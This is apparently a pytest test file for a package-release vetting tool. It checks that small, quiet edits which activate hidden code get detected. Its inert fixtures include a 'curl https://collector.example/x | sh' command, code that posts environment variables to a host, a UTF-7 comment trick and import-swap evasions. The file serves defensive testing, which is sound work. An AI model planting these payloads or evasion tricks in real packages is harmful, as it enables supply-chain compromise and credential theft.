"""Code that lies ready in an approved release, and is set off by lines in which nothing can be seen."""

from __future__ import annotations

import io
import tarfile

import pytest

from pratique.vet.base import Base
from pratique.vet.engine import facts_of, vet_archive
from pratique.vet.model import Report
from vet.test_engine import CLEAN, DROPPER, NEXT, WHEEL, wheel

# Inert: the host does not exist, and nothing here is ever run.
DEED = "os.system('curl https://collector.example/x | sh')"
HEAD = "import os\nimport subprocess\n"
FILLER = "".join(
    f"\n\ndef filler_{i}(value):\n    total = value + {i}\n    for step in range(3):\n"
    f"        total += step * {i}\n    return total\n"
    for i in range(60)
)
GO = f"\n\ndef go():\n    {DEED}\n"
TEXT = f'\nHELP = """\n\nimport os\n{DEED}\n\n"""\nMORE = """\n"""\n'
USE = "\n\ndef use():\n    return {}('curl https://collector.example/x | sh'{})\n\n\nuse()\n"
RUN = USE.format("run", ", shell=True")
SWAPPED = (
    "from {} import (\n    system as q,\n)\nfrom {} import (\n    system as r,\n)\n"
    + USE.format("r", "")
)
ACTS = "\n\ndef acting(x):\n    return os.popen(x)\n"
SENDS = """import os
import requests

HOST = 'api.good'


def send(name):
    env = dict(os.environ)
    payload = name
    count = len(env)
    requests.post('https://' + HOST, data=
        payload
    )
    return count


send('x')
"""
DOCUMENTED = """

def f(x):
    '''
    go()
    '''
    y = '''
    '''
    return x


f(1)
"""
QUOTED = "\n'''\ngo()\n'''\nx = '''\n'''\n"

PLANTED = {
    "a function becomes a block": (HEAD + GO, HEAD + GO.replace("def go():", "if True:")),
    "the line that makes it a function goes": (
        HEAD + "\n\nclass A:\n    x = 1\n\n\ndef go():\n    " + DEED + "\n",
        HEAD + "\n\nclass A:\n    x = 1\n\n\n    " + DEED + "\n"),
    "a condition becomes true": (
        HEAD + GO + "\nif __name__ == '__main__':\n    go()\n", HEAD + GO + "\nif 1:\n    go()\n"),
    "a text ends sooner": (
        HEAD + TEXT,
        HEAD + TEXT.replace('HELP = """\n', 'HELP = """\n"""\n').replace('\n\n"""\nMORE', "\n\n\nMORE")),
    "a quoted call is no longer quoted": (HEAD + GO + QUOTED, HEAD + GO + QUOTED.replace("'''\n", "", 2)),
    "a docstring becomes code": (
        HEAD + GO + DOCUMENTED, HEAD + GO + DOCUMENTED.replace("    '''\n    go()\n    '''", "    go()")),
    "parentheses after a name": (
        HEAD + GO + "\nT = [\n    go\n    ,\n]\n", HEAD + GO + "\nT = [\n    go\n    (),\n]\n"),
    "a comment becomes the encoding": (
        f"# a\n# b\n# coding: utf-7\n# +AAo-import os\n# +AAo-{DEED.replace('|', '+AHw-')}\neval('1')\n",
        f"# coding: utf-7\n# +AAo-import os\n# +AAo-{DEED.replace('|', '+AHw-')}\neval('1')\n"),
    "another module under the old name": (
        "import helpers as r\n" + USE.format("r.system", ""),
        "import os as r\n" + USE.format("r.system", "")),
    "another module in the first line of an import": (
        "import os\nfrom helpers import (\n    run,\n)\n" + RUN + ACTS,
        "import os\nfrom subprocess import (\n    run,\n)\n" + RUN + ACTS),
    "two imports change places": (
        SWAPPED.format("os", "helpers"), SWAPPED.format("helpers", "os")),
    "an import of everything": (
        "import os\nfrom helpers import *\n" + RUN + ACTS,
        "import os\nfrom subprocess import *\n" + RUN + ACTS),
    "a function becomes an import": (
        "import os\ndef run(x, shell):\n    return x\n" + RUN + ACTS,
        "import os\nfrom subprocess import run\n" + RUN + ACTS),
    "a function now executes what it is given": (
        "import os\ndef run(x, shell):\n    return x\n" + RUN + ACTS,
        "import os\ndef run(x, shell):\n    os.system(x)\n    return x\n" + RUN + ACTS),
    "a default that calls": (
        HEAD + ACTS + "\n\ndef deploy():\n    return 1\n\n\ndef f(x=deploy()):\n    return x\n",
        HEAD + ACTS + "\n\ndef deploy():\n    " + DEED + "\n\n\ndef f(x=deploy()):\n    return x\n"),
    "another value is sent": (SENDS, SENDS.replace("    count", "    payload = env\n    count", 1)),
    "another argument is sent": (SENDS, SENDS.replace("        payload\n", "        env\n")),
    "a form feed ends a block": (
        HEAD + GO + "\n\ndef f():\n    return 1\n", HEAD + GO + "\n\ndef f():\n    return 1\n    \fgo()\n"),
}  # fmt: skip


def told(report: Report) -> set[tuple[str, str, str]]:
    return {(f.rule, f.trait, f.reach) for f in report.findings if f.rule != "new-destination"}


@pytest.mark.slow
@pytest.mark.parametrize("change", PLANTED.values(), ids=PLANTED)
def test_what_quiet_lines_set_off_is_seen(change: tuple[str, str]) -> None:
    old, new = (text + FILLER for text in change)
    base = facts_of(wheel({**CLEAN, "demo/core.py": old}), WHEEL)
    data = wheel({**CLEAN, "demo/core.py": new}, "1.1")
    by_lines = vet_archive(data, NEXT, base=base).report
    whole = vet_archive(data, NEXT, base=Base(release=base.release, contents=base.contents)).report
    assert told(whole)
    assert told(by_lines) >= told(whole)


def test_quiet_lines_that_set_off_nothing_are_not_parsed() -> None:
    old = HEAD + GO + FILLER
    base = facts_of(wheel({**CLEAN, "demo/core.py": old}), WHEEL)
    same = vet_archive(wheel({**CLEAN, "demo/core.py": old}, "1.1"), NEXT, base=base)
    for new in (
        old.replace("total = value", "total = 1 + value"),
        "'''What it is for.'''\n" + old + "\n\ndef more(a):\n    # why\n    return a\n",
        old.replace("    return total\n", "", 1),
    ):
        outcome = vet_archive(wheel({**CLEAN, "demo/core.py": new}, "1.1"), NEXT, base=base)
        assert outcome.partial
        assert outcome.report.analysed == same.report.analysed  # metadata only


# ── one path twice, one content twice ────────────────────────────────────────────────────────


def sdist(members: list[tuple[str, str]], version: str) -> tuple[bytes, str]:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in members:
            info = tarfile.TarInfo(f"demo-{version}/{path}")
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return out.getvalue(), f"demo-{version}.tar.gz"


INIT = ("demo/__init__.py", "from . import core\n")


def deeds(report: Report) -> set[str]:
    return {f.path.partition("/")[2] for f in report.findings if f.rule == "fetched-exec"}


@pytest.mark.parametrize("turn", [1, -1])
def test_a_second_content_of_a_path_is_not_taken_for_the_first(turn: int) -> None:
    base = facts_of(*sdist([INIT, ("demo/core.py", HEAD + GO + FILLER)], "1.0"))
    quiet = HEAD + GO + FILLER.replace("total = value", "total = 1 + value", 1)
    assert vet_archive(*sdist([INIT, ("demo/core.py", quiet)], "1.1"), base=base).partial
    two = [("demo/core.py", quiet), ("demo/core.py", DROPPER)][::turn]
    report = vet_archive(*sdist([INIT, *two], "1.1"), base=base).report
    assert deeds(report) == {"demo/core.py"}


@pytest.mark.slow
@pytest.mark.parametrize("turn", [1, -1])
def test_two_contents_of_a_path_are_joined_when_both_were_read(turn: int) -> None:
    noise = "import socket\n\n\ndef hello(host):\n    return socket.gethostbyname(host)\n" * 60
    padding = [(f"demo/a{i}.py", f"# {i}\n" + noise) for i in range(40)]
    deed = noise + DROPPER.replace("https://collector.example", "http://203.0.113.7:8080")
    two = [("demo/core.py", noise + "# 1\n"), ("demo/core.py", deed)][::turn]
    assert "demo/core.py" in deeds(vet_archive(*sdist([*padding, INIT, *two], "1.0")).report)


def test_a_content_read_by_its_changes_is_read_anew_at_another_path() -> None:
    """There it runs unasked, and its calls count."""
    old = HEAD + GO + FILLER
    new = old.replace("    return total\n", "    return other(total)\n", 1) + "\n\nfiller_3(1)\n"
    members = [INIT, ("demo/core.py", old), ("demo/build.py", "X = 1\n")]
    base = facts_of(*sdist(members, "1.0"))
    outcome = vet_archive(
        *sdist([INIT, ("demo/core.py", new), ("setup.py", new)], "1.1"), base=base
    )
    calls = {
        call
        for (_, _), facts in outcome.new.items()
        for region in facts.regions
        for call in region.calls
    }
    assert ".filler_3" in calls
